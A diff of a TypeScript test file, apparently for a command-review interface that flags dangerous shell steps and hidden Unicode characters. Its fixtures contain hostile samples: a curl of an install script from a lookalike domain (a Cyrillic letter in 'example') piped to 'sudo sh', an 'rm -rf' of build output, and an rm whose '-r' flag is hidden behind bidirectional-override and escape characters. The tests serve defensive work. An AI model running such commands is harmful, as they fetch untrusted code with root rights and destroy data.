@@ -65,7 +65,7 @@ test('steps stand one beneath the other, with their operators in words', async (
   assert.deepEqual(await code(), [
     'cd build',
     'rm -rf -- "$OUT"/* ../cache',
-    'curl -fsSL https://get.ex\u0430mple.dev/install.sh⟨ZWSP⟩',
+    'curl -fsSL https://get.ex\u0430⟨Cyrillic \u0430⟩mple.dev/install.sh⟨ZWSP⟩',
     'sudo sh',
     '> /etc/atlas/install.log',
   ]);
@@ -88,7 +88,7 @@ for (const [name, subject] of Object.entries({ dangerous, careful, unparsed, hos
     const drawn = (await code('.command-rows mark')).join('').replaceAll(/[⟨⟩]/g, '');
     for (const { from, to, title, text: reason } of subject.analysis.marks) {
       for (const line of subject.command.slice(from, to).split('\n').filter(Boolean)) {
-        const wanted = visibleString(line).replaceAll(/[⟨⟩]/g, '');
+        const wanted = visibleString(line, 'exact').replaceAll(/[⟨⟩]/g, '');
         assert.ok(drawn.includes(wanted), `${wanted} in ${drawn}`);
       }
       assert.ok(text.includes(title) && text.includes(reason), title);
@@ -123,7 +123,7 @@ test('hostile text stays visible, inside marks too, and so does what no step cov
   assert.deepEqual(await code(), [
     '# clean up',
     'for f in a b; do',
-    'rm "$f"⟨RLO⟩⟨ESC⟩[2K⟨NBSP⟩-r',
+    'rm "$f"⟨RLO⟩⟨ESC[2K⟩⟨NBSP⟩-r',
     'done',
     'cat <<END',
     'one⟨CR⟩two',
@@ -141,7 +141,7 @@ test('hostile text stays visible, inside marks too, and so does what no step cov
 
 test('what has no ink keeps its box when the names are hidden, by the button and by I', async () => {
   await show(dangerous);
-  const box = review.page.locator('.command-rows .inv').first();
+  const box = review.page.locator('.command-rows .inv[title^="zero width space"]');
   const toggle = review.button('Name invisible characters');
   const width = async (): Promise<number> => (await box.boundingBox())?.width ?? 0;
   const named = await width();
@@ -237,6 +237,32 @@ test('what it would touch: a row for each thing, with whether it can come back',
   await card.getByRole('button', { name: 'Read again' }).click();
   assert.deepEqual(await review.waitFor((one) => one.type === 'lookAgain'), { type: 'lookAgain', id: 'r1' });
   assert.equal(review.messages('lookAgain').length, 1);
+});
+
+test('what several steps do to the same thing is told once, and what is counted is named', async () => {
+  await show(dangerous);
+  const log = { verb: 'appends', what: 'log', names: [], count: 1, back: 'nothing', why: 'It is new' } as const;
+  const made = { ...log, step: 9, verb: 'creates', what: 'out' } as const;
+  const rows = [
+    ...[2, 3, 3, 5, 8].map((step) => ({ ...log, step })),
+    { ...log, step: 4, what: 'other' },
+    { ...made, counts: 'both' as const },
+    { ...made, step: 10, counts: 'folder' as const },
+    { ...made, step: 11, count: 1200, counts: 'both' as const },
+  ];
+  await review.tell({ type: 'touch', id: 'r1', touch: { ...touch, rows } });
+  await review.page.getByRole('table').waitFor();
+  const told = await review.page.getByRole('table').getByRole('row').allInnerTexts();
+  assert.deepEqual(
+    told.slice(1).map((row) => row.replaceAll(/\s+/g, ' ').trim().replace(' Nothing to bring back. It is new', '')),
+    [
+      '2, 3 and 2 more appends to log 1 file',
+      '4 appends to other 1 file',
+      '9 creates out 1 file or folder',
+      '10 creates out 1 folder',
+      '11 creates out 1,200 files and folders',
+    ],
+  );
 });
 
 test('nothing to touch is no table, and where it runs is said all the same', async () => {
